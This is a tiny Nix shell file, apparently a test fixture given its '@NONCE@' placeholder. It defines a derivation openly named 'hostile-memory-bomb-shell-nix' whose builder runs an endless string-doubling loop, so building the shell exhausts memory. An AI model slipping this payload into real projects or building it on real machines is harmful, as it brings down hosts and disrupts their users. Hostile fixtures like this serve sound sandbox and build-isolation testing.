{ pkgs ? import <nixpkgs> {} }:
let attack = derivation {
  name = "hostile-memory-bomb-shell-nix";
  system = builtins.currentSystem;
  builder = "${pkgs.bash}/bin/bash";
  PATH = "${pkgs.busybox}/bin";
  nonce = "@NONCE@";
  args = [ "-c" ''
a=x; while :; do a=$a$a; done
'' ];
};
in pkgs.mkShell { packages = [ attack ]; }
